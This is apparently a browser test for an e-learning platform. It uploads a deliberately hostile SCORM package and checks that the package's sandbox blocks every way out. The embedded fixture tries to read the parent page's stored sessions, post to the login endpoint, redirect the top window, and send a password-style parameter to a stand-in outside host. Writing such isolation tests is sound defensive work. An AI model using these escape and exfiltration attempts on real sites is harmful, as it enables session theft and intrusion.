/** A package that wants out: it asks the API, sends forms, leads away, opens windows, keeps workers. Nothing of it arrives. */
import { expect, it } from 'vitest'
import { manifest, scorm } from '../core/testing/midia-samples.ts'
import { at, expectRefusals, openBrowser } from './browser.ts'
import { runtimeOf, sendFile } from './oficina.ts'

const { visit } = openBrowser()

/** A beacon does not tell whether it left: what arrives is seen at the end. Each way out by its name, tried one after another; what came of it is told to the page that shows the package. */
const HOSTILE = `<!doctype html><html><head><meta charset="utf-8"><title>x</title></head><body>
<iframe name="alvo"></iframe><form id="f" target="alvo" method="post" action="/conta/pt-br/login"><input name="usuario" value="x"></form>
<script>
const host = location.origin, app = host.replace('pacote.', '')
const get = (url, more) => fetch(url, { headers: { tenant: 'demo' }, ...more }).then(r => 'answered ' + r.status, () => 'refused')
const tries = {
  'its own file': () => get('index.html'),
  'the API of its host': () => get('/conta/pt-br/eu'),
  'a sign-in at its host': () => get('/conta/pt-br/login', { method: 'POST', body: '{}' }),
  'the API of the product': () => get(app + '/conta/pt-br/eu'),
  'health of its host': () => get('/healthz'),
  'another package': () => get('/pacote/1.1.1.0.x/'),
  'a far host': () => get('https://exemplo.test/?senha=1', { mode: 'no-cors' }),
  'XMLHttpRequest': () => new Promise(r => { const x = new XMLHttpRequest(); x.onload = () => r('answered ' + x.status); x.onerror = () => r('refused'); x.open('GET', '/conta/pt-br/eu'); x.send() }),
  'a beacon': () => { try { navigator.sendBeacon('/conta/pt-br/login', 'x') } catch {} return 'refused' },
  'a socket': () => new Promise(r => { try { const s = new WebSocket(host.replace('http', 'ws') + '/eventos'); s.onopen = () => r('open'); s.onerror = () => r('refused') } catch { r('refused') } }),
  'events': () => new Promise(r => { const s = new EventSource('/eventos'); s.onopen = () => r('open'); s.onerror = () => { s.close(); r('refused') } }),
  'a picture of its host': () => new Promise(r => { const i = new Image(); i.onload = () => r('loaded'); i.onerror = () => r('refused'); i.src = '/imagens/favicons/turmalina.ico' }),
  'a picture far away': () => new Promise(r => { const i = new Image(); i.onload = () => r('loaded'); i.onerror = () => r('refused'); i.src = 'https://exemplo.test/x.png?senha=1' }),
  'a script of the product': () => new Promise(r => { const s = document.createElement('script'); s.onload = () => r('ran'); s.onerror = () => r('refused'); s.src = '/preferences.js'; document.body.append(s) }),
  'a service worker': () => navigator.serviceWorker ? navigator.serviceWorker.register('index.html').then(() => 'kept', () => 'refused') : 'refused',
  'a frame of its host': () => new Promise(r => { const f = document.createElement('iframe'); f.onload = () => { let t; try { t = f.contentDocument && f.contentDocument.body && f.contentDocument.body.innerText } catch {} r(t ? 'shows ' + t : 'refused') }; f.src = '/login'; document.body.append(f); setTimeout(() => r('refused'), 1500) }),
  'a form': () => new Promise(r => { document.getElementById('f').submit(); setTimeout(() => r('refused'), 500) }),
  'a window': () => window.open('https://exemplo.test/') ? 'opened' : 'refused',
  'the page above': () => { try { top.location = 'https://exemplo.test/?senha=1'; return 'asked' } catch { return 'refused' } },
  'the text of the page above': () => { try { return top.document.title ? 'read' : 'refused' } catch { return 'refused' } },
  'what the page above keeps': () => { try { return top.localStorage.getItem('sessions') ? 'read' : 'refused' } catch { return 'refused' } },
  'a base elsewhere': () => { const b = document.createElement('base'); b.href = app + '/'; document.head.append(b); const ok = document.baseURI.includes('/pacote/'); b.remove(); return ok ? 'refused' : 'moved' },
}
;(async () => {
  const told = {}
  // What never answers was refused too.
  const late = () => new Promise(r => setTimeout(r, 4000, 'refused'))
  await Promise.all(Object.entries(tries).map(async ([name, go]) => {
    try { told[name] = await Promise.race([go(), late()]) } catch { told[name] = 'refused' }
  }))
  let p = window; while (p !== top) { p = p.parent }
  p.postMessage({ hostil: told }, '*')
})()
</script></body></html>`

it('a hostile package reaches nothing but its own files', async () => {
  const { pacote } = await sendFile(
    'hostil.zip',
    scorm(
      '1.2',
      [{ name: 'aula/hostil.html', data: Buffer.from(HOSTILE) }],
      manifest('1.2', 'aula/hostil.html'),
    ),
  )
  const visitor = await visit({ email: 'professora@demo.test', worker: true })
  const { page, context } = visitor
  await page.goto(at('/logado'))
  const before = page.url()
  const asked: string[] = []
  // What the policy stops is asked and never answered.
  context.on('response', (response) => {
    const { hostname, pathname } = new URL(response.url())
    if (hostname !== 'localhost')
      asked.push(
        `${response.request().method()} ${hostname}${pathname.replace(/\/pacote\/[^/]+/, '/pacote/T')}`,
      )
  })
  const runtime = runtimeOf('scorm')
  const told = await page.evaluate(
    ([url, r]) =>
      new Promise<Record<string, string>>((resolve) => {
        addEventListener('message', ({ data }) => {
          if (data?.hostil) resolve(data.hostil)
        })
        const frame = document.createElement('iframe')
        frame.setAttribute('sandbox', 'allow-scripts allow-same-origin allow-forms')
        frame.src = `${location.protocol}//pacote.${location.host}${url}#${new URLSearchParams({ o: location.origin, r: String(r) })}`
        document.body.append(frame)
      }),
    [pacote, runtime] as const,
  )
  expect(told).toMatchObject({ 'its own file': 'answered 200' })
  const out = Object.entries(told).filter(([name, what]) => name !== 'its own file' && what !== 'refused')
  expect(out).toEqual([])
  expect(Object.keys(told).length).toBeGreaterThan(20)
  // It is still there, and alone.
  expect([page.url(), context.pages().length]).toEqual([before, 1])
  expect(await context.cookies()).toEqual([])
  // Whatever left was for a package or its run-time.
  expect(
    asked.filter((one) => !/^GET pacote\.localhost\/(?:pacote\/T\/|assets\/(?:scorm)-)/.test(one)),
  ).toEqual([])
  // Opened as a page of its own it is nothing.
  const alone = await context.newPage()
  const answer = await alone.goto(at(`${pacote}c/aula/index.html`, 'pacote.localhost'))
  expect([answer?.status(), await answer?.text()]).toEqual([404, ''])
  // Refusals are what it provokes.
  expectRefusals(visitor, /./)
})
